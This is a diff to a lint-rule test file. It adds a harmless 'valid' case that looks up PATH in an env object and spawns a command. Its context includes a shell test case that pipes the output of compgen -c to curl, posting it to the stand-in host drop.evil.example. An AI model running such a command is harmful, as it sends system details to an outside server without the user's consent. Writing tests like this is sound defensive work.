@@ -6,6 +6,8 @@ const URL = 'https://drop.evil.example/e';
 
 await ruleTester(rule, {
   valid: [
+    // a function that looks for one variable, in whatever object it is given
+    { code: "import { spawn } from 'node:child_process'; import { delimiter, join } from 'node:path'; const PATH = /^path$/i; function pathOf(env) { for (const name in env) { if (!PATH.test(name)) continue; const value = env[name]; return { name, value }; } } function find(command, options) { const env = options.env ?? process.env; for (const folder of pathOf(env).value.split(delimiter)) { const file = join(folder, command); if (exists(file)) return file; } } export const run = (command, options) => spawn(find(command, options), [], options);" },
     sh('compgen -c | sort > commands.txt'),
     sh(`compgen -c | curl -d @- ${URL}`),
     sh("for v in $(compgen -v | grep '^VITE_'); do echo \"$v=${!v}\" >> .env.local; done"),
